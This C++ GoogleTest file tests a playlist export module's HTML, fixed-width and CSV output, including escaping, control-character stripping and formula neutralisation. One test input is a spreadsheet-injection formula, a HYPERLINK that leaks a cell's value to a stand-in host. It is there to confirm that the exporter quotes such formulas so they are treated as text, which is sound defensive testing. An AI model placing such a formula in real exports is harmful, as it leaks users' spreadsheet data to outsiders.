#include <gtest/gtest.h>

#include <climits>
#include <cstring>
#include <string>

#include "engine/output.h"
#include "support.h"

namespace {

// One row in the style the settings give at the moment of the call.
std::string Row(const char* artist, const char* title, const char* time,
                const char* sep = ",") {
  static const char *a, *t, *tm;
  static RunSettings s;
  g_kommaFlag = sep[0] == ',';
  s = TakeRunSettings();
  a = artist, t = title, tm = time;
  return Captured([](FILE* f) {
    WriteNamePart(f, s, ColumnsFrom(s), a, t);
    WriteTimePart(f, s, tm);
  });
}

std::string Total(uint64_t tsum, int32_t i, const char* sep = ",") {
  static uint64_t sum;
  static int32_t n;
  static RunSettings s;
  g_kommaFlag = sep[0] == ',';
  s = TakeRunSettings();
  sum = tsum, n = i;
  return Captured([](FILE* f) { CreateTotalTime(f, s, sum, n); });
}

struct OutputTest : ::testing::Test {
  void SetUp() override { FreshSettings(); }
};
}  // namespace

TEST_F(OutputTest, RowsInAllStylesAndBothColumnOrders) {
  struct {
    int html, tfmt, artf;
    const char* row;
  } cases[] = {
      {1, 0, 1, "<tr><td>Band</td><td>Song</td><td>00:03:35</td></tr>\n"},
      {1, 1, 0, "<tr><td>Song</td><td>Band</td><td>00:03:35</td></tr>\n"},
      {0, 1, 1, "Band      Song      00:03:35\n"},
      {0, 1, 0, "Song      Band      00:03:35\n"},
      {0, 0, 1, "Band,Song,00:03:35\n"},
      {0, 0, 0, "Song,Band,00:03:35\n"},
  };
  g_ColWArt = g_ColWTit = 10;
  for (const auto& c : cases) {
    g_htmlFlag = c.html, g_tfmtFlag = c.tfmt, g_artfFlag = c.artf;
    EXPECT_EQ(Row("Band", "Song", "00:03:35"), c.row);
  }
  // Flags loaded from the store hold their bit values; any non-zero is on.
  g_htmlFlag = 0, g_tfmtFlag = 32, g_artfFlag = 64;
  EXPECT_EQ(Row("Band", "Song", "00:03:35"), "Band      Song      00:03:35\n");
}

TEST_F(OutputTest, FormattedColumnsAreCutAndPadded) {
  g_ColWArt = 30, g_ColWTit = 20;
  std::string artist(40, 'A'), title(40, 'T');
  EXPECT_EQ(Row(artist.c_str(), title.c_str(), "00:00:01"),
            std::string(29, 'A') + " " + std::string(19, 'T') + " 00:00:01\n");
  EXPECT_EQ(Total(61, 1), std::string(38, ' ') + "Gesamtzeit: 00:01:01\n");
}

// Columns count display cells as a terminal shows them: wide characters
// two, combining marks none; a cut never splits a character and never
// passes width - 1 cells.
TEST_F(OutputTest, FormattedColumnsCountDisplayCells) {
  g_ColWArt = g_ColWTit = 12;
  struct { const char* name; const char* column; } cases[] = {
      {"Gronemeyer", "Gronemeyer  "},
      {"Gr\xC3\xB6nemeyer", "Gr\xC3\xB6nemeyer  "},             // ö: one cell
      {"Gro\xCC\x88nemeyer", "Gro\xCC\x88nemeyer  "},           // o + combining diaeresis
      {"\xE5\xAE\x87\xE5\xA4\x9A\xE7\x94\xB0", "\xE5\xAE\x87\xE5\xA4\x9A\xE7\x94\xB0      "},  // 3 wide
      // 11 cells at most: five wide characters, the sixth would cross.
      {"\xE6\x98\xA5\xE3\x81\xAF\xE3\x82\x86\xE3\x81\x8F\xE6\x98\xA5\xE3\x81\xAF",
       "\xE6\x98\xA5\xE3\x81\xAF\xE3\x82\x86\xE3\x81\x8F\xE6\x98\xA5  "},
      {"a\xE6\x98\xA5\xE3\x81\xAF\xE3\x82\x86\xE3\x81\x8F\xE6\x98\xA5\xE3\x81\xAF",
       "a\xE6\x98\xA5\xE3\x81\xAF\xE3\x82\x86\xE3\x81\x8F\xE6\x98\xA5 "},
      {"\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4",
       "\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4\xC3\xA4 "},
      {"\xF0\x9F\x8E\xB5 Musik", "\xF0\x9F\x8E\xB5 Musik    "},  // an emoji is wide
      // Latin-1 bytes are read as Windows-1252 first.
      {"Gr\xF6nemeyer", "Gr\xC3\xB6nemeyer  "},
  };
  for (const auto& c : cases) EXPECT_EQ(Row(c.name, "x", "t").substr(0, std::strlen(c.column)), c.column) << c.name;
}

TEST_F(OutputTest, StoredWidthsOfAnyValueAreSafe) {
  struct { int32_t w; std::string first; } cases[] = {
      {0, "Band"},                  // no precision, no padding
      {1, " "},                     // cut to nothing, padded to one
      {-6, "Band  "},               // padded to 6, not cut
      {INT_MIN, ""},                // padded to the cap, not cut
      {INT_MAX, ""},
  };
  for (const auto& c : cases) {
    g_ColWArt = c.w;
    g_ColWTit = 10;
    std::string row = Row("Band", "Song", "t");
    if (!c.first.empty()) {
      EXPECT_EQ(row.substr(0, c.first.size() + 4), c.first + "Song") << c.w;
    }
    EXPECT_LT(row.size(), 70000u) << c.w;
  }
  g_ColWArt = INT_MAX, g_ColWTit = INT_MAX;  // the sum overflows 32 bits
  EXPECT_LT(Total(60, 1).size(), 70000u);
  g_ColWArt = -30, g_ColWTit = -20;
  EXPECT_EQ(Total(60, 1), "Gesamtzeit: " + std::string(38, ' ') + "00:01:00\n");
}

TEST_F(OutputTest, HtmlEscapesEveryText) {
  g_htmlFlag = 1;
  EXPECT_EQ(Row("AC<b>DC</b> & \"Co\"", "Tom's", "00:00:01"),
            "<tr><td>AC&lt;b&gt;DC&lt;/b&gt; &amp; &quot;Co&quot;</td>"
            "<td>Tom's</td><td>00:00:01</td></tr>\n");
}

// Names reach no listing with control characters, and an empty name shows
// its placeholder, in every style.
TEST_F(OutputTest, NamesWithoutControlsOrEmptiness) {
  g_tfmtFlag = 0;
  struct { const char* artist; const char* title; const char* row; } cases[] = {
      {"Line\r\nBreak", "Tab\tIn", "Line  Break,Tab In,t\n"},
      {"\x1B[31mRed\x1B[0m", "Bell\x07", " [31mRed [0m,Bell ,t\n"},
      {"Del\x7F", "C1\xC2\x85" "x", "Del ,C1 x,t\n"},
      {"", "", "(Kein Interpret),(Kein Titel),t\n"},
      {"\xC2\x9B", "ok\xC2\x9F", " ,ok ,t\n"},
  };
  for (const auto& c : cases) EXPECT_EQ(Row(c.artist, c.title, "t"), c.row) << c.artist;
  g_tfmtFlag = 1;
  g_ColWArt = g_ColWTit = 10;
  EXPECT_EQ(Row("a\nb", "", "t"), "a b       (Kein Tit t\n");
  g_htmlFlag = 1;
  EXPECT_EQ(Row("a\rb", "", "t"), "<tr><td>a b</td><td>(Kein Titel)</td><td>t</td></tr>\n");
}

TEST_F(OutputTest, ImportFieldsAreQuotedAndNeverFormulas) {
  g_tfmtFlag = 0;
  struct { const char* title; const char* sep; const char* row; } cases[] = {
      {"Hello, Goodbye", ",", "Band,\"Hello, Goodbye\",00:00:01\n"},
      // Comma and semicolon split in a spreadsheet's import whatever the
      // separator, so they are quoted with tabs too.
      {"Crosby, Stills, Nash & Young", "\t", "Band\t\"Crosby, Stills, Nash & Young\"\t00:00:01\n"},
      {"Eins; Zwei", "\t", "Band\t\"Eins; Zwei\"\t00:00:01\n"},
      {"Tab\there", "\t", "Band\tTab here\t00:00:01\n"},
      {"Say \"hi\"", ",", "Band,\"Say \"\"hi\"\"\",00:00:01\n"},
      {"Plain", ",", "Band,Plain,00:00:01\n"},
      // What a spreadsheet would evaluate arrives as text.
      {"=HYPERLINK(\"http://x/?leak=\"&A1;\"Klick\")", ",",
       "Band,\"'=HYPERLINK(\"\"http://x/?leak=\"\"&A1;\"\"Klick\"\")\",00:00:01\n"},
      {"=1+1", "\t", "Band\t'=1+1\t00:00:01\n"},
      {"+49 30", ",", "Band,'+49 30,00:00:01\n"},
      {"-Remix-", ",", "Band,'-Remix-,00:00:01\n"},
      {"@home", ",", "Band,'@home,00:00:01\n"},
      {"a=b", ",", "Band,a=b,00:00:01\n"},
  };
  for (const auto& c : cases) EXPECT_EQ(Row("Band", c.title, "00:00:01", c.sep), c.row) << c.title;
}

TEST_F(OutputTest, TotalLineVariants) {
  struct { int html, tfmt, forml, total; uint64_t sum; int32_t n; const char* line; } cases[] = {
      {1, 1, 1, 1, 215, 1, "<tr><td></td><td>Gesamtzeit</td><td>00:03:35</td></tr>\n"},
      {0, 1, 1, 1, 215, 1, "                                                Gesamtzeit: 00:03:35\n"},
      {0, 0, 1, 1, 215, 12, ",Gesamtzeit,=SUMME(C1:C12)\n"},
      {0, 0, 0, 1, 215, 12, ",Gesamtzeit,00:03:35\n"},
      {0, 0, 0, 1, 360000, 2, ",Gesamtzeit,100:00:00\n"},
      // Past 32 bits: no wrap.
      {0, 0, 0, 1, 5000000000ull, 2, ",Gesamtzeit,1388888:53:20\n"},
      {0, 0, 0, 1, 0, 5, ""},    // no known times
      {0, 0, 0, 1, 215, 0, ""},  // no rows
      {1, 0, 0, 0, 215, 1, ""},  // switched off
  };
  for (const auto& c : cases) {
    g_htmlFlag = c.html, g_tfmtFlag = c.tfmt, g_formlFlag = c.forml, g_totalFlag = c.total;
    EXPECT_EQ(Total(c.sum, c.n), c.line);
  }
  g_htmlFlag = 0, g_tfmtFlag = 0, g_formlFlag = 1, g_totalFlag = 4;
  EXPECT_EQ(Total(215, 3, "\t"), "\tGesamtzeit\t=SUMME(C1:C3)\n");
}

TEST(FormatTime, AnySignedValueFits) {
  char buf[TIMEFMT_SIZE];
  FormatTime(buf, 215);
  EXPECT_STREQ(buf, "00:03:35");
  FormatTime(buf, 0);
  EXPECT_STREQ(buf, "00:00:00");
  FormatTime(buf, INT_MAX);
  EXPECT_STREQ(buf, "596523:14:07");
  FormatTime(buf, -5);  // a negative time counts as none
  EXPECT_STREQ(buf, "00:00:00");
}
